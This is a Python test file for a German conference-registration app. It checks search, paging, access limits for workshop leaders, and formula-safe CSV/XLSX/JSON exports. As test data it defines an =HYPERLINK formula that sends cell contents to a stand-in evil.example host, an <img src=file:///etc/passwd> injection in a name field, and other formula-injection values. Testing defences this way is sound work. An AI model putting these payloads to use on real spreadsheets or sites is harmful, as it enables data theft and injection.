"""The registrations table, detail pages, exports (formula-safe) and workshop leaders' lists."""
import io
import json

from openpyxl import load_workbook

from tests.conftest import sign_in
from tests.manage_helpers import ANHALT, BASE, EVENT, event_named, registrations_of, workshops
from confapp.extensions import db
from confapp.models import (Assignment, AssignmentSource, ItemLeader, Registration, RegistrationHistory,
                            RegistrationStatus)
from confapp.services.networks import accounts

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _add(event, first, last, sector="Kita", organisation="Kita Sonnenschein", status=RegistrationStatus.confirmed,
         workshop=None):
    registration = Registration(event=event, first_name=first, last_name=last, sector=sector,
                                email=f"{last.lower()}.{len(first)}@example.org".replace(" ", ""),
                                organisation=organisation, status=status)
    registration.history.append(RegistrationHistory(action="registered", to_status=status.value, actor="attendee"))
    if workshop is not None:
        registration.assignments.append(Assignment(slot_id=workshop.slot_id, program_item_id=workshop.id,
                                                   source=AssignmentSource.manual))
    db.session.add(registration)
    db.session.commit()
    return registration


def test_search_filter_sort_and_pages(client, demo, app_context):
    event = event_named()
    workshop = workshops()[0]
    _add(event, "Zoë", "Aaberg", sector="Polizei/Ordnungsbehörde", organisation="Polizeirevier Köthen",
         workshop=workshop)
    _add(event, "Yusuf", "Zander", status=RegistrationStatus.waitlisted)
    sign_in(client, ANHALT)

    found = client.get(f"{BASE}/anmeldungen?q=polizeirevier k").get_data(as_text=True)
    assert "Aaberg, Zoë" in found and "1 Anmeldung gefunden." in found
    by_sector = client.get(f"{BASE}/anmeldungen?sector=Polizei/Ordnungsbehörde").get_data(as_text=True)
    assert "Aaberg, Zoë" in by_sector and "Zander" not in by_sector
    waitlist = client.get(f"{BASE}/anmeldungen?warteliste=1").get_data(as_text=True)
    assert "Zander, Yusuf" in waitlist and "Aaberg" not in waitlist
    in_workshop = client.get(f"{BASE}/anmeldungen?workshop={workshop.id}").get_data(as_text=True)
    assert "Aaberg, Zoë" in in_workshop and "1 Anmeldung gefunden." in in_workshop
    unassigned = client.get(f"{BASE}/anmeldungen?ohne_zuteilung={workshop.slot_id}").get_data(as_text=True)
    assert "Aaberg" not in unassigned and "Zander, Yusuf" in unassigned
    by_name = client.get(f"{BASE}/anmeldungen?sort=name").get_data(as_text=True)
    assert by_name.index("Aaberg, Zoë") < by_name.index("Zander, Yusuf")

    for number in range(50):
        _add(event, "Person", f"Zz{number:02d}")
    first_page = client.get(f"{BASE}/anmeldungen?sort=name").get_data(as_text=True)
    assert "Seite 1 von 2" in first_page and "Zz49" not in first_page
    second_page = client.get(f"{BASE}/anmeldungen?sort=name&seite=2").get_data(as_text=True)
    assert "Zz49" in second_page and "Aaberg" not in second_page


def test_detail_page_shows_history_and_escapes_names(client, demo, app_context):
    registration = _add(event_named(), "<img src=file:///etc/passwd>", "Test")
    sign_in(client, ANHALT)
    html = client.get(f"{BASE}/anmeldungen/{registration.id}").get_data(as_text=True)
    assert "&lt;img src=file:///etc/passwd&gt;" in html and "<img src=file" not in html
    # The history in words: what happened, the status, who did it; no code names.
    assert "Angemeldet (bestätigt) · die angemeldete Person" in html
    assert "registered" not in html and "attendee" not in html and "UTC" not in html
    other = registrations_of("netzwerkforum-magdeburg")[0]
    assert client.get(f"{BASE}/anmeldungen/{other.id}").status_code == 404


def _hostile_registration():
    return _add(event_named(), EVIL, "-Müller", organisation="+49 3493 0000", sector="@SUMME(A1:A9)",
                workshop=workshops()[0])


def test_csv_export_is_german_excel_and_neutralises_formulas(client, demo, app_context):
    _hostile_registration()
    sign_in(client, ANHALT)
    response = client.get(f"{BASE}/export/anmeldungen.csv")
    assert response.headers["Content-Disposition"].endswith('.csv"')
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Nachname;Vorname;E-Mail;Einrichtung;Arbeitsfeld;Status")
    line = next(line for line in text.splitlines() if "Müller" in line)
    assert line.startswith("'-Müller;")
    assert "'+49 3493 0000" in line and "'@SUMME(A1:A9)" in line and '"\'=HYPERLINK(' in line
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in text.splitlines() for cell in row.split(";"))


def test_xlsx_export_holds_only_plain_strings(client, demo, app_context):
    _hostile_registration()
    sign_in(client, ANHALT)
    workbook = load_workbook(io.BytesIO(client.get(f"{BASE}/export/anmeldungen.xlsx").get_data()))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + EVIL in values and "'-Müller" in values and "'+49 3493 0000" in values
    hostile_row = next(row for row in workbook.active.iter_rows() if row[0].value == "'-Müller")
    assert all(cell.data_type == "s" for cell in hostile_row if isinstance(cell.value, str))  # dates are date cells
    workshop = workshops()[0]
    listing = load_workbook(io.BytesIO(client.get(f"{BASE}/workshops/{workshop.id}.xlsx").get_data()))
    rows = [[cell.value for cell in row] for row in listing.active.iter_rows()]
    assert rows[0] == ["Nachname", "Vorname", "Einrichtung", "Arbeitsfeld"]
    assert ["'-Müller", "'" + EVIL, "'+49 3493 0000", "'@SUMME(A1:A9)"] in rows


def test_export_command_writes_csv_xlsx_and_json(cli, demo, app_context, tmp_path):
    _hostile_registration()
    count = len(registrations_of())
    for ending in ("csv", "xlsx", "json"):
        result = cli.invoke(args=["export", EVENT, "-o", str(tmp_path / f"a.{ending}")])
        assert result.exit_code == 0, result.output
        assert f"{count} Anmeldungen geschrieben" in result.output
    data = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    hostile = next(r for r in data["registrations"] if r["last_name"] == "-Müller")
    assert hostile["first_name"] == EVIL and hostile["assignments"][0]["item"] == workshops()[0].title
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert load_workbook(tmp_path / "a.xlsx").active.max_row == count + 1
    bad = cli.invoke(args=["export", EVENT, "-o", str(tmp_path / "a.pdf")])
    assert bad.exit_code != 0 and ".csv, .xlsx oder .json" in bad.output
    unknown = cli.invoke(args=["export", "gibt-es-nicht", "-o", str(tmp_path / "b.csv")])
    assert unknown.exit_code != 0 and "gibt es nicht" in unknown.output


def test_workshop_leader_sees_name_organisation_sector_of_their_own_workshop_only(client, demo, app_context):
    own, other = workshops()[:2]
    _add(event_named(), "Greta", "Gruber", organisation="Jugendamt", sector="Jugendamt/ASD", workshop=own)
    _add(event_named(), "Hanna", "Huber", workshop=other)
    leader = accounts.grant_role("leitung@example.org", "anhalt-bitterfeld", "workshop_leader",
                                 password="ein sicheres Passwort").user
    db.session.add(ItemLeader(program_item_id=own.id, user_id=leader.id))
    db.session.commit()
    sign_in(client, "leitung@example.org", "ein sicheres Passwort")
    dashboard = client.get("/manage/").get_data(as_text=True)
    assert own.title in dashboard
    html = client.get(f"{BASE}/workshops/{own.id}").get_data(as_text=True)
    assert "Gruber" in html and "Jugendamt/ASD" in html and "Huber" not in html
    assert "gruber.5@example.org" not in html and "@example.org" not in html.split("<main")[1]
    csv_text = client.get(f"{BASE}/workshops/{own.id}.csv").get_data().decode("utf-8-sig")
    assert csv_text.splitlines() == ["Nachname;Vorname;Einrichtung;Arbeitsfeld", "Gruber;Greta;Jugendamt;Jugendamt/ASD"]
    for url in (f"{BASE}/workshops/{other.id}", f"{BASE}/workshops/{other.id}.csv", f"{BASE}/anmeldungen",
                f"{BASE}/export/anmeldungen.csv", f"/manage/e/{EVENT}/"):
        assert client.get(url).status_code == 404, url
